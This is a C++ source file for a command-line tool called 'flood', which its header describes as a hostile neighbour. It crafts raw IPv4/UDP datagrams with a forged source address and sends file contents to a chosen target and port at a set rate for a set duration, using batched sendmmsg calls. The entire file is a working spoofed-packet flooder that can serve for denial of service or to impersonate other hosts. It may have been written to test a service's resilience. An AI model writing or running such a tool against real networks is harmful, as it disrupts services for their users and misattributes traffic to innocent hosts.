// A hostile neighbour: sends datagrams that claim to come from somebody else, at a given rate.
//
//   flood FROM TO PORT RATE SECONDS FILE…    IPv4; the content of the files in turn, RATE datagrams a second over all
//
// Prints how many were sent. Needs the right to raw sockets.
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sys/socket.h>

#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <iterator>
#include <string>
#include <thread>
#include <vector>

#include <fmt/format.h>

namespace {

using Clock = std::chrono::steady_clock;
constexpr std::size_t kBatch = 50;

/// The file as a packet. The kernel fills in length and checksum of the IP header; UDP needs none.
std::string packet(const std::string& file, in_addr from, in_addr to, std::uint16_t port) {
  std::ifstream in{file, std::ios::binary};
  const std::string text{std::istreambuf_iterator<char>{in}, {}};
  iphdr ip{};
  ip.version = 4;
  ip.ihl = 5;
  ip.ttl = 64;
  ip.protocol = IPPROTO_UDP;
  ip.saddr = from.s_addr;
  ip.daddr = to.s_addr;
  udphdr udp{};
  udp.source = udp.dest = htons(port);
  udp.len = htons(static_cast<std::uint16_t>(sizeof udp + text.size()));
  std::string all(reinterpret_cast<const char*>(&ip), sizeof ip);
  all.append(reinterpret_cast<const char*>(&udp), sizeof udp);
  return all + text;
}

[[noreturn]] void fail(const char* what) {
  std::perror(what);
  std::exit(1);
}

}  // namespace

int main(int argc, char** argv) {
  in_addr from{}, to{};
  if (argc < 7 || inet_aton(argv[1], &from) == 0 || inet_aton(argv[2], &to) == 0) {
    std::fputs("flood FROM TO PORT RATE SECONDS FILE…\n", stderr);
    return 2;
  }
  const auto port = static_cast<std::uint16_t>(std::atoi(argv[3]));
  const double rate = std::atof(argv[4]), seconds = std::atof(argv[5]);
  std::vector<std::string> packets;
  for (int i = 6; i < argc; ++i) packets.push_back(packet(argv[i], from, to, port));

  const int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (fd < 0) fail("socket");
  sockaddr_in there{};
  there.sin_family = AF_INET;
  there.sin_addr = to;
  std::vector<mmsghdr> batch(kBatch);
  std::vector<iovec> parts(kBatch);
  for (std::size_t i = 0; i < kBatch; ++i)
    batch[i].msg_hdr = {.msg_name = &there,
                        .msg_namelen = sizeof there,
                        .msg_iov = &parts[i],
                        .msg_iovlen = 1,
                        .msg_control = nullptr,
                        .msg_controllen = 0,
                        .msg_flags = 0};
  const Clock::time_point began = Clock::now();
  std::size_t sent = 0;
  for (;;) {
    const double passed = std::chrono::duration<double>(Clock::now() - began).count();
    if (passed >= seconds) break;
    if (static_cast<double>(sent) >= passed * rate) {
      std::this_thread::sleep_for(std::chrono::microseconds{200});
      continue;
    }
    for (std::size_t i = 0; i < kBatch; ++i) {
      std::string& one = packets[(sent + i) % packets.size()];
      parts[i] = {one.data(), one.size()};
    }
    const int done = sendmmsg(fd, batch.data(), kBatch, 0);
    if (done < 0) fail("sendmmsg");
    sent += static_cast<std::size_t>(done);
  }
  fmt::print("{}\n", sent);
}
